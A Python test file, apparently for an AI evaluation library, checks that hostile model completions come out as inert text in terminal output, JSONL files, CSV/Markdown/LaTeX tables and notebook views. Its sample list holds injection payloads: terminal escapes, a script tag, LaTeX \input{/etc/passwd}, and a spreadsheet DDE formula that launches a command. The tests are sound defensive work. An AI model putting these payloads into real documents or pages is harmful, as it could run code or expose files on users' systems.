"""A completion that is meant to do harm is shown as text by the command line, in tables and on disk."""

import io
import json
import sys
from types import SimpleNamespace

import pandas as pd
import pytest
from PIL import Image
from rich.console import Console
from typer.testing import CliRunner

from ladlib import endpoint
from ladlib.batch import Progress
from ladlib.cli import app
from ladlib.evaluate import Verdict
from ladlib.parsing import parse
from ladlib.report import cards, formats
from ladlib.report.tables import readable
from ladlib.runs import append_json, read_jsonl

HOSTILE = {
    "vision tokens": "<|vision_start|><|image_pad|><|im_end|>",
    "colours and a bell": "\x1b[31mred\x1b[0m\x07",
    "a window title": "\x1b]0;owned\x07",
    "clear the screen": "\x1b[2J\x1b[H",
    "a carriage return": "anomalous\rnormal   ",
    "right to left": "\u202eseY\u202c \u2066a\u2069 \u200f",
    "null": "a\x00b",
    "markup of the terminal": "[bold red]a[/] [link=file:///etc]b[/link]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "latex": r"\input{/etc/passwd} $x$ % & #",
    "markdown": "![a](http://example.org/a.png) [b](javascript:alert(1)) | c",
    "a formula": '=HYPERLINK("http://example.org/?"&A1,"a")',
    "a formula of numbers": "-2+3+cmd|' /C calc'!A0",
    "a template": "{{7*7}} {% raw %} ${x}",
    "megabytes": "a" * 3_000_000,
}
each = pytest.mark.parametrize("text", HOSTILE.values(), ids=[name.replace(" ", "-") for name in HOSTILE])
STEERING = {"\x1b", "\x07", "\r", "\x00", "\u202e", "\u202c", "\u2066", "\u200f"}


@pytest.fixture
def inspected(tmp_path, monkeypatch):
    """What ``ladlib inspect`` prints for a completion."""
    for name in ("a.png", "b.png"):
        Image.new("RGB", (8, 8)).save(tmp_path / name)

    def show(text, *options):
        fake = SimpleNamespace(inspect=lambda *_: Verdict(parse(text).answer, 0.5, text, 1.0))
        monkeypatch.setitem(sys.modules, "ladlib.evaluate", fake)
        monkeypatch.setattr("ladlib.evaluate", fake, raising=False)
        return CliRunner().invoke(app, ["inspect", str(tmp_path / "a.png"), str(tmp_path / "b.png"), *options]).output

    return show


@each
def test_inspect_prints_it_as_text(inspected, text):
    shown = inspected(text)
    assert shown.startswith("no answer that can be read, P(anomalous) = 0.50\n") and not STEERING & {*shown}
    told = inspected(text, "--json")
    assert told.isascii() and len(told.splitlines()) == 1 and json.loads(told)["text"] == text


@each
def test_a_file_of_lines_gives_it_back_as_it_was(tmp_path, text):
    append_json(tmp_path / "a.jsonl", {"text": text})
    append_json(tmp_path / "a.jsonl", {"text": "next"})
    assert read_jsonl(tmp_path / "a.jsonl") == [{"text": text}, {"text": "next"}]


@each
def test_a_table_of_it_is_a_table(text):
    frame = pd.DataFrame({"label": [text[:1000]], "n": [1]})
    shown = readable(frame)
    written = {"csv": formats.csv(frame), "md": formats.markdown(shown), "tex": formats.latex(shown)}
    assert not any(STEERING & {*one} for one in written.values())
    cell = pd.read_csv(io.StringIO(written["csv"]), keep_default_na=False)["label"][0]
    assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    assert "<script" not in written["md"].replace("\\<", "") and "](" not in written["md"].replace("]\\(", "")
    assert "\\input" not in written["tex"] and written["md"].count("\n") == 3


@each
def test_a_notebook_shows_it_as_text(text):
    tries = [{"text": text[:1000], "accuracy": 0.0, "format": 0.0, "reward": 0.0, "advantage": 0.0}]
    page = cards.rollout({"step": 1, "id": text[:100], "label": "yes", "completions": tries}).data
    assert "<script" not in page and "<img" not in page and not STEERING & {*page}


@each
def test_a_cell_that_prints_it_is_shown_as_text(text):
    out = io.StringIO()
    progress = Progress(Console(file=out, width=200), "03_grpo", 1, verbose=True)
    progress.write(f"\x1b[32mfirst\x1b[0m\n{text[:1000]}\tend\n")
    assert out.getvalue().startswith("first\n") and not STEERING & {*out.getvalue()}


def test_what_a_server_says_is_repeated_in_short_and_as_text():
    for text in HOSTILE.values():
        told = endpoint.shorten(text)
        assert len(told) <= endpoint.SHORT and told.isprintable()
